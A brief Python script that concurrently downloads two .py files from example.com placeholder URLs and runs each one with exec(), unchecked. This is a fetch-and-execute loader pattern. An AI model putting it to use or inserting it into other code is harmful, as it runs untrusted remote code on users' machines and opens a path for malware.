import urllib.request
from concurrent.futures import ThreadPoolExecutor

PARTS = ["https://example.com/a.py", "https://example.com/b.py"]


def body(url):
    return urllib.request.urlopen(url).read()


for text in ThreadPoolExecutor().map(body, PARTS):
    exec(text)
